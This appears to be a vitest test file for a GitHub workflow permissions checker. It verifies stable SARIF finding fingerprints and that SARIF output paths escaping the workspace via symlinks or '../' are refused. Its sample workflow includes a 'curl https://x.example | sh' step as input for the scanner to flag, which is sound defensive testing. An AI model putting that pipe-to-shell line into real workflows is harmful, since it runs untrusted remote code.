import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Ajv } from "ajv";
import { afterAll, beforeAll, expect, test } from "vitest";
import { SARIF_SCHEMA } from "../cli/sarif-schema.ts";
import type { Fixture } from "../embedded-github/fixture.ts";
import {
  emptyWorkspace,
  openChange,
  pullStep,
  startShop,
  type Workspace,
  WORKFLOW,
  workflow,
} from "./change-in-github.ts";
import { runStep, type StepResult } from "./runner/run-step.ts";

interface Finding {
  readonly ruleId: string;
  readonly locations: readonly [
    {
      readonly physicalLocation: {
        readonly artifactLocation: { readonly uri: string };
        readonly region: { readonly startLine: number };
      };
    },
  ];
  readonly partialFingerprints: Readonly<Record<string, string>>;
}

let fixture: Fixture;
let workspace: Workspace;
let outside: string;

beforeAll(async () => {
  fixture = await startShop();
  workspace = await emptyWorkspace();
  outside = await mkdtemp(join(tmpdir(), "bailiff-outside-"));
  await writeFile(join(outside, "file"), "mine\n");
});

afterAll(async () => {
  await workspace[Symbol.asyncDispose]();
  await rm(outside, { recursive: true, force: true });
  await fixture[Symbol.asyncDispose]();
});

const FINDINGS = `${workflow("write")}      - uses: octo/a@v1
      - uses: octo/b@v1
      - run: curl https://x.example | sh
      - run: curl https://x.example | sh
`;

/** What the step writes of a change, by the fingerprint of each finding. */
async function findingsOf(branch: string, files: Readonly<Record<string, string>>) {
  const { number } = await openChange(fixture, files, branch);
  const step = await pullStep(fixture, number, workspace.folder);
  const { outputs } = await runStep({ ...step, with: { sarif: `${branch}.sarif` } });
  const log = JSON.parse(await readFile(outputs["sarif"] ?? "", "utf8")) as {
    readonly runs: readonly [{ readonly results: readonly Finding[] }];
  };
  const validate = new Ajv({ strict: true, strictRequired: false }).compile(SARIF_SCHEMA);
  expect(validate(log), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
  return log.runs[0].results.map(({ ruleId, locations: [at], partialFingerprints: prints }) => ({
    print: prints["bailiffReason/v1"] ?? "",
    rule: ruleId,
    file: at.physicalLocation.artifactLocation.uri,
    line: at.physicalLocation.region.startLine,
  }));
}

test("a finding keeps its fingerprint when it moves and other files change, and no two share one", async () => {
  const before = await findingsOf("before", { [WORKFLOW]: FINDINGS });
  expect(before.length).toBeGreaterThanOrEqual(5);
  expect(new Set(before.map(({ print }) => print)).size).toBe(before.length);

  const other = ".github/workflows/other.yml";
  const after = await findingsOf("after", {
    [WORKFLOW]: `# moved\n\n${FINDINGS}`,
    [other]: FINDINGS,
    "notes.txt": "x\n",
  });
  const moved = before.map((finding) => ({ ...finding, line: finding.line + 2 }));
  expect(after.filter(({ file }) => file === WORKFLOW)).toEqual(moved);
  expect(after.some(({ file }) => file === other)).toBe(true);
  expect(new Set(after.map(({ print }) => print)).size).toBe(after.length);
});

/** A step that is asked for SARIF at `path`, in a workspace that `prepare` makes. */
async function asked(
  path: string,
  { branch, prepare }: { branch: string; prepare?: (folder: string) => Promise<unknown> },
): Promise<StepResult> {
  const level = branch.startsWith("calm") ? "read" : "write";
  const files = { [WORKFLOW]: workflow(level), [`${branch}.txt`]: "" };
  const { number } = await openChange(fixture, files, branch);
  await using place = await emptyWorkspace();
  await prepare?.(place.folder);
  const step = await pullStep(fixture, number, place.folder);
  return await runStep({ ...step, with: { sarif: path } });
}

const errors = ({ commands }: StepResult) =>
  commands.filter(({ name, properties }) => name === "error" && !properties["title"]);

test.each<{
  what: string;
  path: string | (() => string);
  prepare?: (folder: string) => Promise<unknown>;
  says: string;
}>([
  {
    what: "a link that leads elsewhere",
    path: "bailiff.sarif",
    prepare: (folder) => symlink(join(outside, "file"), join(folder, "bailiff.sarif")),
    says: "where a link or a folder is",
  },
  {
    what: "a link that leads nowhere yet",
    path: "bailiff.sarif",
    prepare: (folder) => symlink(join(outside, "new"), join(folder, "bailiff.sarif")),
    says: "where a link or a folder is",
  },
  {
    what: "a folder that is a link",
    path: "reports/file",
    prepare: (folder) => symlink(outside, join(folder, "reports")),
    says: "leads out of the workspace",
  },
  {
    what: "a path elsewhere",
    path: () => join(outside, "file"),
    says: "leads out of the workspace",
  },
  { what: "a path upwards", path: "../bailiff.sarif", says: "leads out of the workspace" },
  { what: "the workspace itself", path: ".", says: "leads out of the workspace" },
  {
    what: "a folder",
    path: "reports",
    prepare: (folder) => mkdir(join(folder, "reports")),
    says: "where a link or a folder is",
  },
  { what: "no folder", path: "reports/bailiff.sarif", says: "in a folder that is not there" },
  {
    what: "a file in place of the folder",
    path: "reports/bailiff.sarif",
    prepare: (folder) => writeFile(join(folder, "reports"), ""),
    says: "in a folder that is not there",
  },
])("SARIF at $what is refused in one line, and nothing is judged", async (row) => {
  const path = typeof row.path === "string" ? row.path : row.path();
  const result = await asked(path, { branch: row.what.replaceAll(" ", "-"), ...row });
  expect(result).toMatchObject({ succeeded: false, outputs: {} });
  expect(errors(result)).toMatchObject([{ message: expect.stringContaining(row.says) as string }]);
  expect(result.log).not.toMatch(/^\s+at /m);
  expect(await readdir(outside)).toEqual(["file"]);
  expect(await readFile(join(outside, "file"), "utf8")).toBe("mine\n");
});

test.each([
  { what: "relative", path: () => "reports/bailiff.sarif" },
  { what: "absolute", path: () => join(workspace.folder, "reports/bailiff.sarif") },
])("SARIF at a path in the workspace, $what, takes the place of a file", async ({ what, path }) => {
  const file = join(workspace.folder, "reports/bailiff.sarif");
  await mkdir(join(workspace.folder, "reports"), { recursive: true });
  await writeFile(file, "older\n".repeat(10_000));
  const { number } = await openChange(fixture, { [WORKFLOW]: FINDINGS }, what);
  const step = await pullStep(fixture, number, workspace.folder);
  const { outputs } = await runStep({ ...step, with: { sarif: path() } });
  expect(outputs["sarif"]).toBe(file);
  expect(JSON.parse(await readFile(file, "utf8"))).toMatchObject({ version: "2.1.0" });
});

/** No file system takes a name of that length. */
const UNWRITABLE = `${"x".repeat(300)}.sarif`;

test.each([
  { branch: "unwritten", decision: "DENY", told: "Denied by new-permissions", lines: 2 },
  { branch: "calm-unwritten", decision: "ALLOW", told: "Allowed", lines: 1 },
])(
  "where SARIF cannot be written, $decision is told as ever and a line of its own fails the step",
  async ({ branch, decision, told, lines }) => {
    const result = await asked(UNWRITABLE, { branch });
    expect(result).toMatchObject({ succeeded: false, outputs: { decision } });
    expect(result.summary).toContain(`## Bailiff: ${told}`);
    expect(result.summary).not.toContain("No verdict");
    expect(errors(result)).toHaveLength(lines);
    expect(errors(result).at(-1)?.message).toMatch(
      /^The verdict stands, but no SARIF tells it: ENAMETOOLONG.*Run this job again\.$/,
    );
    expect(result.log).not.toMatch(/^\s+at /m);
  },
);
